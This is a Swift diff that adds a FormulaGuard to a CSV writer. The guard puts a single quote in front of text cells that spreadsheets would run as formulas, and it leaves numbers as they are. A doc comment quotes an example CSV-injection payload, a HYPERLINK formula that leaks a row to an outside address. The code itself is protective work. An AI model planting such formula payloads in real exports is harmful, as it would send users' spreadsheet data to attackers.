@@ -18,6 +18,10 @@ public enum CSVDialect: String, Sendable, CaseIterable, Codable {
 /// that an export of any size needs the same little memory; without an output the whole table
 /// stays in `bytes` (for small listings). Fields with the delimiter, a quote, CR or LF are
 /// quoted, quotes doubled; records end with CRLF.
+///
+/// Text fields that a spreadsheet would take for a formula (see `FormulaGuard`) get a single
+/// quote in front, as OWASP advises for CSV files from outside; numbers (`integer`, and
+/// `CSVValue.integer` / `.decimal`) are written as they are.
 struct CSVWriter {
     let dialect: CSVDialect
     private let output: ReplacementFile?
@@ -65,6 +69,16 @@ struct CSVWriter {
 
     /// A text field from UTF-8 bytes.
     mutating func text(bytes: UnsafeBufferPointer<UInt8>) {
+        field(bytes: bytes, guarded: FormulaGuard.isNeeded(bytes))
+    }
+
+    /// A number already in the dialect's notation: never guarded (`-1` stays data).
+    private mutating func number(_ text: String) {
+        var text = text
+        text.withUTF8 { field(bytes: $0, guarded: false) }
+    }
+
+    private mutating func field(bytes: UnsafeBufferPointer<UInt8>, guarded: Bool) {
         separate()
         let delimiter = dialect.delimiter
         var needsQuotes = false
@@ -73,10 +87,12 @@ struct CSVWriter {
             break
         }
         guard needsQuotes else {
+            if guarded { buffer.append(FormulaGuard.prefix) }
             buffer.append(contentsOf: bytes)
             return
         }
         buffer.append(0x22)
+        if guarded { buffer.append(FormulaGuard.prefix) }
         for byte in bytes {
             if byte == 0x22 { buffer.append(0x22) }
             buffer.append(byte)
@@ -105,7 +121,10 @@ struct CSVWriter {
 
     /// A field given as a `CSVValue` (decimals: four places at most, the dialect's separator).
     mutating func value(_ value: CSVValue) {
-        text(value.text(dialect))
+        switch value {
+        case .text, .optionalText: text(value.text(dialect))
+        case .integer, .decimal: number(value.text(dialect))
+        }
     }
 
     /// Ends the record and hands the buffer to the file once it is big enough.
@@ -126,6 +145,41 @@ struct CSVWriter {
     private mutating func separate() {
         if fieldsInRecord > 0 { buffer.append(dialect.delimiter) }
         fieldsInRecord += 1
+    }
+}
+
+/// Spreadsheet formula injection (CSV injection, OWASP): Excel, LibreOffice and Google Sheets
+/// run a cell that starts with `=`, `+`, `-` or `@` as a formula — `=HYPERLINK("http://…?leak="&A2)`
+/// in a project title would send the row to whoever wrote it — and also one that starts so
+/// after leading white space, or with a tab or carriage return. Such a text cell is written
+/// with a single quote in front (`'=HYPERLINK(…)`), which spreadsheets show as text. Only the
+/// CSV exports do this; the store and the JSON keep the text exactly as written.
+enum FormulaGuard {
+    /// The single quote put in front.
+    static let prefix = UInt8(ascii: "'")
+
+    /// Whether a text cell of these UTF-8 bytes would be read as a formula.
+    static func isNeeded(_ bytes: UnsafeBufferPointer<UInt8>) -> Bool {
+        guard let first = bytes.first else { return false }
+        if first == 0x09 || first == 0x0D { return true }
+        var index = 0
+        while index < bytes.count, [0x20, 0x09, 0x0A, 0x0D].contains(bytes[index]) { index += 1 }
+        guard index < bytes.count else { return false }
+        switch bytes[index] {
+        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"):
+            return true
+        case 0xEF:
+            // The full-width forms some spreadsheets also accept: ＝ ＋ － ＠ (U+FF1D, FF0B, FF0D, FF20).
+            guard index + 2 < bytes.count else { return false }
+            return bytes[index + 1] == 0xBC && [0x9D, 0x8B, 0x8D, 0xA0].contains(bytes[index + 2])
+        default:
+            return false
+        }
+    }
+
+    static func isNeeded(_ text: String) -> Bool {
+        var text = text
+        return text.withUTF8 { isNeeded($0) }
     }
 }
 
